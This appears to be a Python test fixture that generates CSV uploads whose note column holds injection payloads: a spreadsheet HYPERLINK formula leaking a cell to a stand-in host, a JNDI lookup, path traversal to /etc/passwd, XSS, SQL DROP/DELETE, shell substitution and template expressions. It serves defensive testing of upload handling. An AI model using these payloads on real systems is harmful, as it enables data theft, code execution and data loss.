"""Uploads that would do something if anything took them for more than data."""

from __future__ import annotations

import csv
import io
import random
from collections.abc import Sequence

HEADER = ("first", "note", "comment", "y")
# A spreadsheet's formula, a path, HTML, SQL, a shell's and a template's expressions, text that turns around.
NOTES = (
    "plain",
    "=1+1",
    '=HYPERLINK("http://192.0.2.1/?leak="&A1,"click")',
    "../../etc/passwd",
    "file:///etc/passwd",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)',
    "</style><svg/onload=alert(1)>",
    "'; DROP TABLE runs; --",
    '"); DELETE FROM metrics; --',
    "$(touch pwned) `touch pwned`",
    "{{7*7}} ${7*7} {% 7*7 %}",
    "${jndi:ldap://192.0.2.1/a}",
    "%s%n%x %2e%2e%2f",
    "a,b|c;d\te",
    "\u202egnp.exe",
    "NULL",
    "ünï 数据 🏠",
)
ROWS_EACH = 24


def rows(seed: int, notes: Sequence[str] = NOTES, comment: str = "") -> list[tuple[object, ...]]:
    """Every note with the same straight line, a little noise, and an offset of its own."""
    chance = random.Random(seed)
    made: list[tuple[object, ...]] = []
    for number, note in enumerate(notes):
        for _ in range(ROWS_EACH):
            first = round(chance.uniform(-1, 1), 4)
            y = round(seed * first + number + chance.gauss(0, 0.01), 4)
            made.append((first, note, comment, y))
    chance.shuffle(made)
    return made


def written(lines: Sequence[Sequence[object]], header: Sequence[str] = HEADER) -> bytes:
    text = io.StringIO()
    csv.writer(text, lineterminator="\n").writerows([header, *lines])
    return text.getvalue().encode()
